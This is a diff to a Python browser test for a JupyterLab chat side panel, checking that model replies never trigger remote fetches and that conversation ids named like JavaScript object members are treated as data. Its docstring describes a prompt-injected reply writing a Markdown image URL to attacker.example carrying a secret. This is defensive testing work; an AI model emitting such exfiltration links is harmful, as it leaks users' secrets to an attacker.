@@ -1,4 +1,4 @@
-"""The side panel never fetches a remote resource named by model output (SPEC section 8).
+"""The side panel never fetches a remote resource named by model output (SPEC section 8), and treats ids as data.
 
 A prompt-injected reply can write ``![](https://attacker.example/?q=<secret>)``: an image the page loads sends the
 URL -- and whatever the model put into it -- to that host. Here the reply comes from a real loopback upstream and
@@ -9,6 +9,7 @@ after Markdown rendering and sanitizing. "Nothing was fetched" is what that serv
 from __future__ import annotations
 
 import base64
+import json
 import struct
 import threading
 import zlib
@@ -23,9 +24,11 @@ from tests._lab import (  # the two jp_ fixtures switch pytest-jupyter's loop ha
     browser_available,
     console_of,
     dialogs_seen,
+    document_state,
     jp_asyncio_loop,  # noqa: F401
     jp_server_cleanup,  # noqa: F401
     launch_browser,
+    notebook_json,
     open_lab,
     screenshot,
     wait_for,
@@ -322,3 +325,78 @@ def shoot_remote_reply(page: Any, run_id: str) -> None:
         set_theme(page, "JupyterLab Light")  # the theme is a user setting: later pages would open dark
     for shot in shots:
         assert shot.stat().st_size > 20_000, f"{shot} looks empty"
+
+
+# ----- conversation ids are data (SPEC section 4) -----------------------------------------------------------------
+
+OBJECT_MEMBER_NAMES = ["constructor", "toString", "hasOwnProperty"]
+
+
+def recorded_turn(run: str, created: str, prompt: str) -> dict[str, Any]:
+    return {
+        "run": run,
+        "model": "demo:fast",
+        "mode": "detached",
+        "prompt": {"role": "user", "content": prompt},
+        "reply": {"role": "assistant", "content": f"reply to {prompt}", "status": "completed", "partial": False},
+        "created": created,
+        "finished": created,
+    }
+
+
+def test_conversations_named_like_object_members_are_shown_and_merged_as_data(lab: LabProcess, browser: Any) -> None:
+    # Given a notebook whose conversations are named like members of every JavaScript object
+    nb = "members.ipynb"
+    conversations = {
+        name: {"turns": [recorded_turn(f"old-{name}", f"2024-01-0{i + 1}T00:00:00Z", f"about {name}")]}
+        for i, name in enumerate(OBJECT_MEMBER_NAMES)
+    }
+    notebook = notebook_json("x = 1", {"streamchat": {"version": 1, "conversations": conversations}})
+    (lab.root / nb).write_text(json.dumps(notebook, indent=1) + "\n")
+    context = browser.new_context(viewport=VIEWPORT)
+    context.set_default_timeout(60_000)
+    try:
+        page = open_lab(browser, lab, nb, context=context)
+        prototype = page.evaluate("() => Object.getOwnPropertyNames(Object.prototype).sort()")
+        panel = open_panel(page)
+
+        # Then the panel offers each of them as a conversation, with its recorded turn
+        select = panel.get_by_label("Conversation", exact=True)
+        wait_for(
+            lambda: (
+                set(OBJECT_MEMBER_NAMES) <= set(select.locator("option").evaluate_all("os => os.map(o => o.value)"))
+            ),
+            10,
+            message=lambda: f"the conversations in the select: {select.inner_html()}",
+        )
+        select.select_option("constructor")
+        wait_for(lambda: "reply to about constructor" in (panel.text_content() or ""), 10)
+
+        # When a run of conversation "constructor" ends while the notebook is open (handed to the open document)
+        run_id = lab.start_run(nb, "constructor", prompt="and now?")
+        lab.wait_run_finished(run_id)
+
+        # Then the open document has it in "constructor", after the earlier turn; the other conversations are kept
+        def turns_of(name: str) -> list[str]:
+            section = document_state(page)["streamchat"] or {}
+            return [t["run"] for t in section.get("conversations", {}).get(name, {}).get("turns", [])]
+
+        wait_for(
+            lambda: turns_of("constructor") == ["old-constructor", run_id],
+            30,
+            message=lambda: f"the turn in 'constructor': {document_state(page)['streamchat']}\n{console_of(page)}",
+        )
+        for name in OBJECT_MEMBER_NAMES[1:]:
+            assert turns_of(name) == [f"old-{name}"]
+        # And the panel shows the new reply in that conversation, and no object of the page gained a member
+        wait_for(lambda: reply_count(page, run_id) == 1, 30, message="the new reply in the panel")
+        assert page.evaluate("() => Object.getOwnPropertyNames(Object.prototype).sort()") == prototype
+        assert page.evaluate("() => ({}).turns === undefined && typeof ({}).constructor === 'function'")
+        assert dialogs_seen(page) == []
+    finally:
+        context.close()
+        lab.shutdown_kernels()
+
+
+def reply_count(page: Any, run_id: str) -> int:
+    return int(page.evaluate("run => document.querySelectorAll(`article[data-run-id='${run}']`).length", run_id))
